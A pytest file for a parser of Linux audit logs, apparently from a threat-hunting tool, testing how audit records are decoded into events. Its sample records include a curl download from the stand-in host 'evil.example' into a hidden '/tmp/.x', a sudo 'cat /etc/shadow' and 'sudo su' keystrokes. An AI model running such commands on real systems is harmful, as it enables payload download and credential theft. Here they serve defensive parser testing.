"""Audit events from records: every row is a line that a kernel, auditd or a daemon writes."""

from __future__ import annotations

from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from linuxhunt.parse.audit import audit
from linuxhunt.schema import EVENTS, empty
from tests.parse.audit_lines import SYSCALL, known, line, lines, syscall

CALL = {
    "success": "yes", "pid": 200, "ppid": 100, "auid": 1000, "uid": 0, "gid": 0, "euid": 0,
    "suid": 0, "fsuid": 0, "egid": 0, "ses": 3, "tty": "pts0", "comm": "ls", "exe": "/usr/bin/ls",
    "syscall": "execve", "arch": "x86_64", "exit": 0,
}  # fmt: skip
REST = {
    "a0": "0", "a1": "0", "a2": "0", "a3": "0", "items": "2", "sgid": "0", "fsgid": "0",
    "subj": "unconfined",
}  # fmt: skip
PLACE = ("TimeGenerated", "DvcHostname", "serial", "types", "EventUid", "RecordIds")


def test_whole_event_has_every_column() -> None:
    found = audit(
        lines(
            syscall(time=1700000000.123),
            line("EXECVE", 'argc=3 a0="ls" a1="-l" a2=74776F20776F726473'),
            line("CWD", "cwd=2F746D702F2E2E2E20"),
            line(
                "PATH",
                'item=1 name="/lib64/ld-linux-x86-64.so.2" inode=7 dev=08:01 mode=0100755 ouid=0'
                " ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
            ),
            line(
                "PATH",
                "item=0 name=2F746D702F612062 inode=9 dev=08:01 mode=0100755 ouid=1000 ogid=1001"
                " rdev=00:00 nametype=NORMAL",
            ),
            line("PROCTITLE", "proctitle=6C73002D6C0074776F20776F726473"),
        )
    )
    assert list(found.columns) == list(EVENTS["audit"])
    assert found.dtypes.astype(str).to_dict() == empty("audit").dtypes.astype(str).to_dict()
    assert known(found) == [
        {
            "TimeGenerated": pd.Timestamp("2023-11-14T22:13:20.123Z"),
            "DvcHostname": "web01",
            "serial": 100,
            "type": "SYSCALL",
            "types": ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"],
            **CALL,
            "cmdline": "ls -l two words",
            "argv": ["ls", "-l", "two words"],
            "cwd": "/tmp/... ",
            "paths": [
                {"item": 0, "name": "/tmp/a b", "nametype": "NORMAL", "mode": "0100755",
                 "ouid": 1000, "ogid": 1001, "inode": 9},
                {"item": 1, "name": "/lib64/ld-linux-x86-64.so.2", "nametype": "NORMAL",
                 "mode": "0100755", "ouid": 0, "ogid": 0, "inode": 7},
            ],
            "proctitle": "ls -l two words",
            "fields": REST,
            "EventUid": "audit.log:1",
            "RecordIds": [f"audit.log:{n}" for n in range(1, 7)],
        }
    ]  # fmt: skip


ONE_RECORD = [
    pytest.param(
        syscall(success=None), {"type": "SYSCALL", **CALL, "fields": REST, "success": None},
        id="syscall without success"),
    pytest.param(
        syscall(2, exit=-13, success="no", auid=4294967295, ses=-1),
        {"type": "SYSCALL", **CALL, "success": "no", "syscall": "open", "exit": -13,
         "errno": "EACCES", "auid": None, "ses": None, "fields": REST},
        id="errno and unset ids"),
    pytest.param(
        line("SYSCALL", 'arch=40000003 syscall=11 per=400000 success=yes exit=0 pid=5 comm="sh"'
             ' exe="/bin/sh" key=6B3101 6B32'.replace("01 ", "01")),
        {"type": "SYSCALL", "arch": "i386", "syscall": "execve", "success": "yes", "exit": 0,
         "pid": 5, "comm": "sh", "exe": "/bin/sh", "key": "k1,k2", "fields": {"per": "400000"}},
        id="i386, two keys"),
    pytest.param(
        line("SYSCALL", 'arch=c00000b7 syscall=221 success=yes exit=0 pid=5 exe="/bin/sh"'),
        {"type": "SYSCALL", "arch": "aarch64", "syscall": "execve", "success": "yes", "exit": 0,
         "pid": 5, "exe": "/bin/sh"}, id="aarch64"),
    pytest.param(
        line("SYSCALL", 'arch=40000028 syscall=11 success=yes exit=0 pid=5 exe="/bin/sh"'),
        {"type": "SYSCALL", "arch": "arm", "syscall": "execve", "success": "yes", "exit": 0,
         "pid": 5, "exe": "/bin/sh"}, id="arm"),
    pytest.param(
        line("SYSCALL", 'arch=c000003e syscall=1073742344 success=yes exit=0 pid=5 exe="/bin/x"'),
        {"type": "SYSCALL", "arch": "x86_64", "syscall": "execve", "success": "yes", "exit": 0,
         "pid": 5, "exe": "/bin/x"}, id="x32 does not hide an execve"),
    pytest.param(
        line("SYSCALL", 'arch=c000003e syscall=9999 success=yes exit=0 pid=5 exe="/bin/x"'),
        {"type": "SYSCALL", "arch": "x86_64", "syscall": "9999", "success": "yes", "exit": 0,
         "pid": 5, "exe": "/bin/x"}, id="unknown syscall keeps its number"),
    pytest.param(
        line("SYSCALL", "arch=c000003e syscall=59 success=yes exit=0 pid=5 comm=2E2EFF2E"
             " exe=2F746D702F782028C3A929202864656C6574656429 tty=(none)"),
        {"type": "SYSCALL", "arch": "x86_64", "syscall": "execve", "success": "yes", "exit": 0,
         "pid": 5, "comm": "..\\xff.", "exe": "/tmp/x (é) (deleted)"},
        id="hex in comm and exe, a byte that is no UTF-8"),
    pytest.param(
        line("USER_LOGIN", "pid=12 uid=0 auid=4294967295 ses=4294967295 msg='op=login"
             ' acct=28756E6B6E6F776E207573657229 exe="/usr/sbin/sshd" hostname=?'
             " addr=203.0.113.9 terminal=sshd res=failed'"),
        {"type": "USER_LOGIN", "pid": 12, "uid": 0, "op": "login", "acct": "(unknown user)",
         "exe": "/usr/sbin/sshd", "addr": "203.0.113.9", "terminal": "sshd", "res": "failed"},
        id="inner msg is opened"),
    pytest.param(
        line("USER_CMD", "pid=12 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/mara\""
             " cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0"
             " res=success'"),
        {"type": "USER_CMD", "pid": 12, "uid": 1000, "auid": 1000, "ses": 3, "cwd": "/home/mara",
         "exe": "/usr/bin/sudo", "cmdline": "cat /etc/shadow", "terminal": "pts/0",
         "res": "success", "fields": {"cmd": "cat /etc/shadow"}},
        id="sudo's command"),
    pytest.param(
        line("USER_ACCT", "pid=12 uid=0 auid=0 ses=1 msg='op=user eve added by root to group sudo"
             ' acct="sudo" exe="/usr/bin/gpasswd" hostname=? addr=? terminal=? res=success\''),
        {"type": "USER_ACCT", "pid": 12, "uid": 0, "auid": 0, "ses": 1,
         "op": "user eve added by root to group sudo", "acct": "sudo", "exe": "/usr/bin/gpasswd",
         "res": "success"}, id="op with blanks"),
    pytest.param(
        line("USER_START", "user pid=13 uid=0 auid=0 msg='PAM: session open acct=root :"
             ' exe="/usr/sbin/crond" (hostname=?, addr=192.0.2.1, terminal=cron res=success)\''),
        {"type": "USER_START", "pid": 13, "uid": 0, "auid": 0, "op": "PAM: session open",
         "acct": "root", "exe": "/usr/sbin/crond", "addr": "192.0.2.1", "terminal": "cron",
         "res": "success"}, id="Linux 2.6 PAM"),
    pytest.param(
        line("LOGIN", "login pid=13 uid=0 old auid=4294967295 new auid=7 old ses=4294967295"
             " new ses=2"),
        {"type": "LOGIN", "pid": 13, "uid": 0, "auid": 7, "ses": 2}, id="Linux 2.6 LOGIN"),
    pytest.param(
        line("LOGIN", "pid=13 uid=0 subj=a:b:c old-auid=4294967295 auid=1000 tty=(none)"
             " old-ses=4294967295 ses=1 res=1"),
        {"type": "LOGIN", "pid": 13, "uid": 0, "auid": 1000, "ses": 1, "res": "1",
         "fields": {"subj": "a:b:c"}}, id="LOGIN"),
    pytest.param(
        line("AVC", 'avc:  denied  { read write } for  pid=14 comm="pickup" name="mail drop"'
             " dev=sda1 ino=9 scontext=a:b:c tcontext=d:e:f tclass=dir permissive=0"),
        {"type": "AVC", "pid": 14, "comm": "pickup",
         "fields": {"seresult": "denied", "seperms": "read write", "name": "mail drop",
                    "dev": "sda1", "ino": "9", "scontext": "a:b:c", "tcontext": "d:e:f",
                    "tclass": "dir", "permissive": "0"}}, id="SELinux"),
    pytest.param(
        line("AVC", 'apparmor="DENIED" operation="open" class="file" profile="/usr/sbin/cupsd"'
             ' name="/etc/x" pid=15 comm="cupsd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0'
             ' info="Failed name lookup - disconnected path"'),
        {"type": "AVC", "pid": 15, "comm": "cupsd", "fsuid": 0,
         "fields": {"apparmor": "DENIED", "operation": "open", "class": "file",
                    "profile": "/usr/sbin/cupsd", "name": "/etc/x", "requested_mask": "r",
                    "denied_mask": "r", "ouid": "0",
                    "info": "Failed name lookup - disconnected path"}}, id="AppArmor"),
    pytest.param(
        line("TTY", 'tty pid=16 uid=0 auid=1000 ses=3 major=136 minor=0 comm="bash"'
             " data=69640D7375646F20737509"),
        {"type": "TTY", "pid": 16, "uid": 0, "auid": 1000, "ses": 3, "comm": "bash",
         "fields": {"major": "136", "minor": "0", "data": "id\rsudo su\t"}}, id="keystrokes"),
    pytest.param(
        line("DAEMON_START", "auditd start, ver=2.4.1 format=raw kernel=3.10.0 auid=4294967295"
             " pid=251 res=success"),
        {"type": "DAEMON_START", "pid": 251, "res": "success",
         "fields": {"msg": "auditd start", "ver": "2.4.1", "format": "raw", "kernel": "3.10.0"}},
        id="words before the first key"),
    pytest.param(
        line("SERVICE_START", "pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=x"
             " comm=\"systemd\" exe=\"/lib/systemd/systemd\" hostname=? addr=? terminal=?"
             " res=success'\x1dUID=\"root\" AUID=\"unset\""),
        {"type": "SERVICE_START", "pid": 1, "uid": 0, "comm": "systemd",
         "exe": "/lib/systemd/systemd", "res": "success", "fields": {"unit": "x", "UID": "root"}},
        id="ENRICHED"),
    pytest.param(
        line("SECCOMP", 'auid=1000 uid=22 gid=22 ses=2 pid=17 comm="sshd" exe="/usr/sbin/sshd"'
             " sig=31 arch=40000003 syscall=102 compat=0 ip=0xb7 code=0x0"),
        {"type": "SECCOMP", "auid": 1000, "uid": 22, "gid": 22, "ses": 2, "pid": 17,
         "comm": "sshd", "exe": "/usr/sbin/sshd", "arch": "i386", "syscall": "socketcall",
         "fields": {"sig": "31", "compat": "0", "ip": "0xb7", "code": "0x0"}}, id="seccomp"),
    pytest.param(
        line("UNKNOWN[1327]", "proctitle=2F62696E2F7368"),
        {"type": "PROCTITLE", "proctitle": "/bin/sh"}, id="a type that auditd could not name"),
    pytest.param(line("UNKNOWN[2999]", "x=1"), {"type": "UNKNOWN[2999]", "fields": {"x": "1"}},
                 id="a type that nobody can name"),
    pytest.param("type=AUOMS_EXECVE audit(1700000000.123:100): arch=x86_64 syscall=execve"
                 ' success=yes exit=0 ppid=1 pid=18 auid=1000 comm="sh" exe="/bin/sh"'
                 ' cmdline="sh -c id" cwd="/"',
                 {"type": "AUOMS_EXECVE", "arch": "x86_64", "syscall": "execve", "success": "yes",
                  "exit": 0, "ppid": 1, "pid": 18, "auid": 1000, "comm": "sh", "exe": "/bin/sh",
                  "cmdline": "sh -c id", "cwd": "/"}, id="auoms"),
    pytest.param("type=AUOMS_CONNECT audit(1700000000.123:100): arch=x86_64 syscall=connect"
                 ' success=no exit=-111(Connection refused) pid=18 auid=1000 comm="nc"'
                 ' containerid=""',
                 {"type": "AUOMS_CONNECT", "arch": "x86_64", "syscall": "connect",
                  "success": "no", "exit": -111, "errno": "ECONNREFUSED", "pid": 18,
                  "auid": 1000, "comm": "nc"}, id="what auoms reads for us, and an empty value"),
    pytest.param(
        line("SYSCALL", 'arch=c000003e syscall=59 pid=5 exe="/bin/sh" key=6B31"'),
        {"type": "SYSCALL", "arch": "x86_64", "syscall": "execve", "pid": 5, "exe": "/bin/sh",
         "key": '6B31"'}, id="a stray quote does not make it cut off"),
    pytest.param(
        line("RESP_ACCT_LOCK", "pid=12 uid=0 auid=4294967295 ses=4294967295 msg='pam_faillock"
             ' uid=1000  exe="/usr/sbin/sshd" hostname=db02 addr=203.0.113.9 terminal=ssh'
             " res=success'"),
        {"type": "RESP_ACCT_LOCK", "pid": 12, "uid": 0, "op": "pam_faillock",
         "exe": "/usr/sbin/sshd", "hostname": "db02", "addr": "203.0.113.9", "terminal": "ssh",
         "res": "success", "fields": {"uid": "1000"}},
        id="what the message says again is not its process's"),
    pytest.param(
        line("USER", "pid=962 uid=0 auid=0 ses=1 msg='hello'"),
        {"type": "USER", "pid": 962, "uid": 0, "auid": 0, "ses": 1, "op": "hello"},
        id="one word for a message"),
    pytest.param(
        line("DM_CTRL", "module=linear op=ctr ppid=1 pid=952 auid=1000 uid=0 comm=\"dmsetup\""
             " exe=\"/usr/sbin/dmsetup\" dev=253:3 error_msg='success' res=1"),
        {"type": "DM_CTRL", "op": "ctr", "ppid": 1, "pid": 952, "auid": 1000, "uid": 0,
         "comm": "dmsetup", "exe": "/usr/sbin/dmsetup", "res": "1",
         "fields": {"module": "linear", "dev": "253:3", "error_msg": "success"}},
        id="error_msg= is no msg="),
    pytest.param(
        line("DM_CTRL", "module=crypt op=ctr pid=952 dev=253:3 error_msg='Device lookup failed'"
             " res=0"),
        {"type": "DM_CTRL", "op": "ctr", "pid": 952, "res": "0",
         "fields": {"module": "crypt", "dev": "253:3", "error_msg": "Device lookup failed"}},
        id="blanks in single quotes"),
    pytest.param(line("CWD", ' cwd="/var/spool"'), {"type": "CWD", "cwd": "/var/spool"},
                 id="blank before the key"),
    pytest.param(line("EOE", ""), {"type": "EOE"}, id="end of event"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "row"), ONE_RECORD)
def test_one_record(text: str, row: dict[str, Any]) -> None:
    expected = {name: value for name, value in row.items() if value is not None}
    assert known(audit(lines(text)), drop=PLACE) == [expected]


ARGUMENTS = [
    pytest.param(['argc=5 a0="curl" a1="-s" a2="http://evil.example/x" a3="-o" a4="/tmp/.x"'],
                 ["curl", "-s", "http://evil.example/x", "-o", "/tmp/.x"], id="five arguments"),
    pytest.param(['argc=3 a0="sh" a1="" a2="DEAD"'], ["sh", "", "DEAD"],
                 id="empty, and quoted hex digits"),
    pytest.param(['argc=3 a0="cat" a1="a0" a2="x=a1"'], ["cat", "a0", "x=a1"], id="decoys"),
    pytest.param(['argc=3 a0="x" a1="?" a2="(none)"'], ["x", "?", "(none)"],
                 id="marks of nothing are arguments"),
    pytest.param(["argc=2 a0=C3A9 a1=FFFE41"], ["é", "\\xff\\xfeA"], id="UTF-8 and not"),
    pytest.param(['argc=3 a0="x" a1="y" a2_len=9 a2[0]="abcd"', 'a2[1]="efgh"', 'a2[2]="i"'],
                 ["x", "y", "abcdefghi"], id="an argument over three records"),
    pytest.param(['argc=2 a0="x" a1_len=12 a1[0]=6120C3', "a1[1]=A9206263"], ["x", "a é bc"],
                 id="a character over two records"),
    pytest.param(['argc=12 a0="x" a1="1" a2="2" a3="3" a4="4" a5="5"',
                  'a6="6" a7="7" a8="8" a9="9" a10="10" a11="11"'],
                 ["x", *map(str, range(1, 12))], id="arguments over two records"),
    pytest.param(['argc=3 a0="x" a1="y"'], ["x", "y", None], id="an argument was lost"),
    pytest.param(['a2="z"', 'argc=3 a0="x"'], ["x", None, "z"], id="a record was lost"),
]  # fmt: skip


@pytest.mark.parametrize(("bodies", "argv"), ARGUMENTS)
def test_arguments(bodies: list[str], argv: list[str | None]) -> None:
    found = audit(lines(*(line("EXECVE", body) for body in bodies)))
    assert found["argv"].tolist() == [argv]
    assert found["cmdline"].tolist() == [" ".join(text for text in argv if text is not None)]


def encoded(argument: bytes) -> str:
    """Write an argument as kernel/audit.c does."""
    bad = any(byte < 0x21 or byte > 0x7E or byte == 0x22 for byte in argument)
    return argument.hex().upper() if bad else f'"{argument.decode()}"'


def execve(argv: list[bytes], most: int) -> list[str]:
    """Write EXECVE records as kernel/auditsc.c does, an argument over ``most`` bytes in parts."""
    records = [f"argc={len(argv)}"]
    for number, argument in enumerate(argv):
        if len(argument) <= most:
            records[-1] += f" a{number}={encoded(argument)}"
            continue
        records[-1] += f" a{number}_len={len(encoded(argument).strip(chr(34)))}"
        whole = encoded(argument).startswith('"')
        for part, start in enumerate(range(0, len(argument), most)):
            piece = argument[start : start + most]
            text = f'"{piece.decode()}"' if whole else piece.hex().upper()
            records.append(f"a{number}[{part}]={text}")
        records.append("")
    return [line("EXECVE", body.strip()) for body in records if body.strip()]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=40), min_size=1,
        max_size=25,
    ),
    st.integers(1, 12),
)  # fmt: skip
def test_arguments_round_trip(argv: list[str], most: int) -> None:
    found = audit(lines(*execve([text.encode() for text in argv], most)))
    assert found["argv"].tolist() == [argv]


@settings(max_examples=40, deadline=None)
@given(st.binary(min_size=1, max_size=30).filter(lambda data: 0 not in data))
def test_bytes_that_are_no_text_are_escaped(data: bytes) -> None:
    found = audit(lines(line("EXECVE", f'argc=2 a0="x" a1={encoded(data)}')))
    assert found["argv"].tolist() == [["x", data.decode("utf-8", "backslashreplace")]]


SOCKETS = [
    pytest.param("0200005006070809000000000000000", None, id="half a byte"),
    pytest.param("02000050C0000209" + "0" * 16, {"family": "inet", "addr": "192.0.2.9", "port": 80},
                 id="inet"),
    pytest.param("0A00001600000000" + "20010DB8000000000000000000000007" + "00000000",
                 {"family": "inet6", "addr": "2001:db8::7", "port": 22}, id="inet6"),
    pytest.param("0A00001600000000" + "FE800000000000000000000000000001" + "02000000",
                 {"family": "inet6", "addr": "fe80::1", "port": 22, "scope": 2}, id="scoped"),
    pytest.param("0A001F9000000000" + "0" * 20 + "FFFFC6336407" + "00000000",
                 {"family": "inet6", "addr": "::ffff:198.51.100.7", "port": 8080}, id="v4-mapped"),
    pytest.param("01002F72756E2F78002F6F6C64", {"family": "unix", "path": "/run/x"}, id="unix"),
    pytest.param("0100002F746D702F2E58313100", {"family": "unix", "path": "@/tmp/.X11"},
                 id="abstract"),
    pytest.param("100000000700000001000000", {"family": "netlink", "pid": 7, "groups": 1},
                 id="netlink"),
    pytest.param("1100000300000000", {"family": "packet", "saddr": "1100000300000000"},
                 id="another"),
    pytest.param("00000000000000000000000000000000", {"family": "unspecified"}, id="none"),
]  # fmt: skip


@pytest.mark.parametrize(("saddr", "value"), SOCKETS)
def test_socket_addresses(saddr: str, value: dict[str, Any] | None) -> None:
    found = audit(lines(line("SYSCALL", SYSCALL.format(
        call=42, pid=1, ppid=1, ses=1, auid=1, comm="x", exe="/x", exit=0, a0=3)),
        line("SOCKADDR", f"saddr={saddr}")))  # fmt: skip
    assert found["sockaddr"].tolist() == [value]
    assert found["syscall"].tolist() == ["connect"]


TOGETHER: list[tuple[str, list[str], list[tuple[str, int, list[str]]]]] = [
    ("two events of a millisecond",
     [syscall(serial=101), syscall(serial=102), line("CWD", 'cwd="/"', "1700000000.000", 101)],
     [("SYSCALL", 101, ["audit.log:1", "audit.log:3"]), ("SYSCALL", 102, ["audit.log:2"])]),
    ("one serial, two stamps",
     [syscall(time=1.5, serial=7), syscall(time=2.5, serial=7)],
     [("SYSCALL", 7, ["audit.log:1"]), ("SYSCALL", 7, ["audit.log:2"])]),
    ("a clock that was moved names the event",
     [syscall(305, time=1700000000.123),
      line("TIME_ADJNTPVAL", "op=freq old=61699325952000 new=142290059264000"),
      line("TIME_ADJNTPVAL", "op=tick old=10000 new=9980")],
     [("TIME_ADJNTPVAL", 100, ["audit.log:1", "audit.log:2", "audit.log:3"])]),
    ("the special record names the event, in any order",
     [syscall(1), line("LOGIN", "pid=200 uid=0 auid=1000 ses=3 res=1", "1700000000.000")],
     [("LOGIN", 100, ["audit.log:1", "audit.log:2"])]),
    ("a context record does not",
     [line("BPRM_FCAPS", "fver=0 fp=0", "1700000000.000"), syscall()],
     [("SYSCALL", 100, ["audit.log:1", "audit.log:2"])]),
    ("the syscall was lost",
     [line("CWD", 'cwd="/"'), line("EXECVE", 'argc=1 a0="id"')],
     [("EXECVE", 100, ["audit.log:1", "audit.log:2"])]),
    ("a record read twice",
     [syscall(), syscall(), syscall() + '\x1dARCH=x86_64 UID="root"'],
     [("SYSCALL", 100, ["audit.log:1", "audit.log:2", "audit.log:3"])]),
    ("cut off lines are no events",
     [syscall()[:-120], line("EXECVE", 'argc=2 a0="x" a1="unfin'),
      line("EXECVE", 'argc=2 a0="x" a1'),
      line("USER_AUTH", "pid=1 msg='op=PAM:authentication acct=\"ro"),
      line("USER_AUTH", "pid=1 msg='op=PAM:authentication"), line("PROCTITLE", "proctitle=6C7"),
      "type=SYSCALL msg=audit(17000", "not audit", ""],
     []),
]  # fmt: skip


@pytest.mark.parametrize(
    ("texts", "events"), [pytest.param(*rest, id=name) for name, *rest in TOGETHER]
)
def test_what_belongs_together(texts: list[str], events: list[tuple[str, int, list[str]]]) -> None:
    found = audit(lines(*texts))
    listed = zip(found["type"], found["serial"], found["RecordIds"], strict=True)
    assert list(listed) == events
    assert found["EventUid"].tolist() == [ids[0] for _, _, ids in events]


def test_a_record_alone_and_the_same_among_others() -> None:
    """What is read once for a text is right in an event of one such record and of several."""
    texts = [
        syscall(305, serial=100),
        line("TIME_ADJNTPVAL", "op=freq old=1 new=2", "1700000000.000", 100),
        line("TIME_ADJNTPVAL", "op=tick old=3 new=4", "1700000000.000", 100),
        syscall(305, serial=101),
        line("TIME_ADJNTPVAL", "op=tick old=3 new=4", "1700000000.000", 102),
    ]
    found = known(audit(lines(*texts)), drop=PLACE)
    call = {**CALL, "syscall": "clock_adjtime"}
    both = {**REST, "old": ["1", "3"], "new": ["2", "4"]}
    assert found == [
        {"type": "TIME_ADJNTPVAL", **call, "op": "freq", "fields": both},
        {"type": "SYSCALL", **call, "fields": REST},
        {"type": "TIME_ADJNTPVAL", "op": "tick", "fields": {"old": "3", "new": "4"}},
    ]


def test_order_of_lines_does_not_matter() -> None:
    texts = lines(
        syscall(time=5.25, serial=9), line("EXECVE", 'argc=1 a0="id"', "5.250", 9),
        line("CWD", 'cwd="/"', "5.250", 9), line("PATH", 'item=0 name="/bin/id"', "5.250", 9),
        syscall(time=5.25, serial=8), line("LOGIN", "pid=1 auid=2 ses=3", "4.000", 7),
    )  # fmt: skip
    expected = audit(texts)
    for seed in range(5):
        shuffled = texts.sample(frac=1, random_state=seed)
        pd.testing.assert_frame_equal(audit(shuffled), expected)


def test_hosts() -> None:
    here = lines("node=DB01 " + line("CWD", 'cwd="/a"'), line("CWD", 'cwd="/b"'))
    there = lines(line("CWD", 'cwd="/c"'), host="db01", file="db.log")
    found = audit(pd.concat([here, there], ignore_index=True))
    assert found[["DvcHostname", "cwd", "RecordIds"]].to_numpy().tolist() == [
        ["DB01", "/a", ["audit.log:1", "db.log:1"]],
        ["web01", "/b", ["audit.log:2"]],
    ]


def test_values_that_differ_between_records_are_lists() -> None:
    found = audit(
        lines(
            syscall(4),
            line("AVC", "avc:  denied  { read } for  pid=200 tclass=dir", "1700000000.000"),
            line("AVC", "avc:  denied  { open } for  pid=200 tclass=file", "1700000000.000"),
        )
    )
    assert found["fields"].tolist() == [
        {**REST, "seresult": "denied", "seperms": ["read", "open"], "tclass": ["dir", "file"]}
    ]


def test_no_records() -> None:
    pd.testing.assert_frame_equal(audit(lines()), empty("audit"))
    pd.testing.assert_frame_equal(audit(lines("nothing")), empty("audit"))
